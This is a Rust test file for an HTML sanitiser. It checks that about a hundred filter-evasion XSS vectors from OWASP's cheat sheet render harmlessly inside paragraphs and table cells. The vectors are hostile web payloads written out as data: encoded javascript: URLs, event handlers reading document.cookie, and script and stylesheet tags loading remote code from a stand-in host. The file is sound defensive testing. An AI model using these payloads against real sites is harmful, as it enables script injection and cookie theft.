//! The families of OWASP's cheat sheet on evading filters: malformed tags, encodings in attributes, schemes with holes in them, styles,
//! refreshes, frames, remote style sheets, handlers of every kind. Each as a block, inside of a paragraph and in a table's cell.

use super::{is_harmless, render, sanitise};

#[rustfmt::skip]
const VECTORS: &[&str] = &[
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    r#"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#,
    r#"\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>"#,
    r#"\<a onmouseover=alert(document.cookie)\>xxs link\</a\>"#,
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    r#"<IMG SRC=# onmouseover="alert('xxs')">"#,
    r#"<IMG SRC= onmouseover="alert('xxs')">"#,
    r#"<IMG onmouseover="alert('xxs')">"#,
    r#"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    r#"<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">"#,
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    r#"<IMG SRC="jav&#x09;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0A;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0D;ascript:alert('XSS');">"#,
    r#"<IMG SRC=" &#14; javascript:alert('XSS');">"#,
    r#"<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    r#"<IMG SRC="`<javascript:alert>`('XSS')""#,
    r#"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    r#"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#,
    r#"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    r#"<IMG DYNSRC="javascript:alert('XSS')">"#,
    r#"<IMG LOWSRC="javascript:alert('XSS')">"#,
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<IMG SRC='vbscript:msgbox("XSS")'>"#,
    r#"<IMG SRC="livescript:[code]">"#,
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    r#"<BGSOUND SRC="javascript:alert('XSS');">"#,
    r#"<BR SIZE="&{alert('XSS')}">"#,
    r#"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
    r#"<LINK REL="stylesheet" HREF="https://xss.example/xss.css">"#,
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    r#"<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">"#,
    r#"<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>"#,
    r#"<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>"#,
    r#"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#,
    r#"<STYLE TYPE="text/javascript">alert('XSS');</STYLE>"#,
    r#"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
    r#"<XSS STYLE="xss:expression(alert('XSS'))">"#,
    r#"<XSS STYLE="behavior: url(xss.htc);">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>"#,
    r#"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')">"#,
    r#"<TABLE><TD BACKGROUND="javascript:alert('XSS')">"#,
    r#"<DIV STYLE="background-image: url(javascript:alert('XSS'))">"#,
    r#"<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a'\0029">"#,
    r#"<DIV STYLE="width: expression(alert('XSS'));">"#,
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    r#"<BASE HREF="javascript:alert('XSS');//">"#,
    r#"<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>"#,
    r#"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0i" type="image/svg+xml" AllowScriptAccess="always"></EMBED>"#,
    r#"<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>"#,
    r##"<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"></BODY></HTML>"##,
    r#"<SCRIPT SRC="https://xss.example/xss.jpg"></SCRIPT>"#,
    r#"<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>"#,
    r#"<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">"#,
    r#"<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"#,
    r#"<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">" '' SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT "a='>'" SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">'>" SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>"#,
    r#"<A HREF="javascript:document.location='https://xss.example/'">XSS</A>"#,
    r#"<A HREF="&#1;javascript:alert(1)">XSS</A>"#,
    r#"<A HREF="javascript&#9;:alert(1)">XSS</A>"#,
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    r#"<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a>"#,
    r#"<math href="javascript:alert(1)">XSS</math>"#,
    r#"<video><source onerror="alert(1)"></video>"#,
    "<audio src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>XSS</button>",
    "<isindex action=javascript:alert(1) type=image>",
    r#"<form id=f></form><button form=f formaction="javascript:alert(1)">XSS</button>"#,
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    r#"<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"#,
    r#"<portal src="javascript:alert(1)"></portal>"#,
];

#[test]
fn what_evades_filters_of_text_evades_no_parser() {
    for vector in VECTORS {
        for source in [
            (*vector).to_owned(),
            format!("before {vector} after"),
            format!("| a |\n|---|\n| {vector} |"),
        ] {
            let html = render(&source).html;
            assert!(is_harmless(&html), "{source}\n  became {html}");
            assert_eq!(
                sanitise::clean(&html),
                html,
                "sanitising is final: {source}"
            );
            for element in [
                "<body", "<frame", "<bgsound", "<xss", "<xml", "<video", "<audio", "<button",
                "<marquee", "<portal", "<select", "<keygen",
            ] {
                assert!(
                    !html.to_lowercase().contains(element),
                    "{element}: {source}\n  became {html}"
                );
            }
        }
    }
    assert!(VECTORS.len() > 90);
}
